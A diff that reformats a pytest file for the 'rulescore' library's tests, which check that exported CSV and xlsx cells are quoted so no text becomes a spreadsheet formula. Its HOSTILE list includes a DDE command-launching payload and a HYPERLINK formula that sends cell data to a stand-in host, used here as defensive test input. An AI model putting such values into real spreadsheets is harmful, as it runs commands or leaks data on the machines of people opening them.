@@ -10,9 +10,8 @@ from pathlib import Path
 
 import polars as pl
 import pytest
-from commands import AS_OF, small_pack
-
 import rulescore
+from commands import AS_OF, small_pack
 from rulescore.folder import Run
 from rulescore.scores import CSV_UP_TO
 
@@ -21,7 +20,17 @@ HOSTILE = [
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1+1)", "+1", "-1", "＝1+1", "＋1", "－1", "＠x",
     "=1\n=2", "'=already quoted", "'", "''",
 ]  # fmt: skip
-PLAIN = ['quoted "name"', "a, b; c", "two\nlines", "甲 客户 😀", "007", "1e5", "TRUE", "2026-06-30", "=".rjust(2, "x")]
+PLAIN = [
+    'quoted "name"',
+    "a, b; c",
+    "two\nlines",
+    "甲 客户 😀",
+    "007",
+    "1e5",
+    "TRUE",
+    "2026-06-30",
+    "=".rjust(2, "x"),
+]
 STARTS = tuple("=+-@＝＋－＠\t\r\n")
 
 
@@ -53,7 +62,10 @@ def test_no_cell_of_text_can_be_a_formula(run: Run) -> None:
     for row in rows:
         assert not [cell for cell in row if cell.startswith(STARTS)]
     assert [row[columns[0]] for row in rows] == [f"'{name}" for name in HOSTILE] + PLAIN
-    assert [row[columns[1]] for row in rows] == [*reversed(PLAIN), *(f"'{name}" for name in reversed(HOSTILE))]
+    assert [row[columns[1]] for row in rows] == [
+        *reversed(PLAIN),
+        *(f"'{name}" for name in reversed(HOSTILE)),
+    ]
 
 
 def test_names_come_back_as_they_were(run: Run) -> None:
@@ -84,7 +96,9 @@ def test_the_file_is_utf8_with_a_mark(run: Run) -> None:
 
 def test_a_customer_without_any_data_has_no_score(pack: Path, tmp_path: Path) -> None:
     """Guards that nothing known is shown as nothing, and not as zero, nan or None; and so when read back."""
-    frame = pl.DataFrame({"customer_id": ["A"], "visits": [None]}, schema={"customer_id": pl.String, "visits": pl.Float64})
+    frame = pl.DataFrame(
+        {"customer_id": ["A"], "visits": [None]}, schema={"customer_id": pl.String, "visits": pl.Float64}
+    )
     run = rulescore.evaluate(frame, pack, AS_OF, out=tmp_path / "run")
     header, row = cells(run)
     shown = dict(zip(header, row, strict=True))
@@ -100,7 +114,9 @@ def test_rejected_rows_are_no_formulas_either(tmp_path: Path) -> None:
     """Guards people who open rejected.xlsx: what was read stands there as text."""
     frames = {
         "customers": pl.DataFrame({"customer_id": ["A"], "annual_revenue": [1.0]}),
-        "orders": pl.DataFrame({"customer_id": ["=1+1", "A"], "order_date": ["2026-01-01", "2026-01-01"], "amount": [1.0, 2.0]}),
+        "orders": pl.DataFrame(
+            {"customer_id": ["=1+1", "A"], "order_date": ["2026-01-01", "2026-01-01"], "amount": [1.0, 2.0]}
+        ),
     }
     run = rulescore.evaluate(frames, "general", AS_OF, out=tmp_path / "run")
     with zipfile.ZipFile(run.folder / "rejected.xlsx") as book:
@@ -117,14 +133,32 @@ def test_beyond_a_hundred_thousand_the_scores_are_parquet(pack: Path, tmp_path: 
     assert CSV_UP_TO == 100_000
     count = CSV_UP_TO + more
     visits = pl.int_range(count, eager=True) % 11
-    frame = pl.DataFrame({"customer_id": pl.int_range(count, eager=True).cast(pl.String), "name": "=x", "visits": visits.cast(pl.Float64)})
+    frame = pl.DataFrame(
+        {
+            "customer_id": pl.int_range(count, eager=True).cast(pl.String),
+            "name": "=x",
+            "visits": visits.cast(pl.Float64),
+        }
+    )
     run = rulescore.evaluate(frame, pack, AS_OF, out=tmp_path / "run")
     files = {path.name for path in run.folder.glob("scores.*")}
     assert files == ({"scores.parquet"} if more else {"scores.csv"})
     table = Run.read(run.folder).table
     assert table["composite"].to_list() == (visits * 10).cast(pl.Float64).to_list()
     assert set(table["name"]) == {"=x"}
-    assert table.columns == ["customer_id", "name", "worth", "composite", "low", "high", "coverage", "tier", "tier_reason", "gates", "reasons"]
+    assert table.columns == [
+        "customer_id",
+        "name",
+        "worth",
+        "composite",
+        "low",
+        "high",
+        "coverage",
+        "tier",
+        "tier_reason",
+        "gates",
+        "reasons",
+    ]
     assert dict(table["tier"].cast(pl.String).value_counts().iter_rows()) == {
         tier: sum(visits.is_in(list(range(low, high)))) for tier, low, high in (("low", 0, 5), ("middle", 5, 8), ("high", 8, 11))
     }  # fmt: skip
